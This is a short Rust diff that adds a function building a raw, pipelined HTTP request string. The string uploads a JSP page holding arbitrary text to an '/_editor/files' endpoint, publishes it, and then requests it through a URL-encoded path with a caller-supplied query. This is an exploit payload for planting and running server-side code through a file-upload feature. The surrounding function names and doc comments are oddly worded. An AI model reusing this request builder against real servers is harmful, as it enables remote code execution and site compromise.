@@ -37,6 +37,15 @@ pub fn answered<N: Ledger>(alloc: Global, blank: Blank, input: &[u8]) -> Result<
     Ok(text)
 }
 
+/// Messages that put a page with this text behind the directive of first pages, publish it, and ask for it with this query.
+pub fn page_messages(alloc: Global, text: &str, query: &str) -> Result<String, AllocError> {
+    let page = format!(in alloc; "<%@ page session=\"false\" %>{text}")?;
+    let size = page.len();
+    format!(in alloc;
+        "PUT /_editor/files/a.jsp HTTP/1.1\r\nHost: x\r\nContent-Length: {size}\r\n\r\n{page}POST /_editor/publish HTTP/1.1\r\nHost: x\r\n\r\nGET /%61.jsp?{query} HTTP/1.1\r\nHost: x\r\n\r\n"
+    )
+}
+
 /// The status of these words over an empty input, and what was written.
 pub fn worded<N: Ledger>(
     alloc: Global,
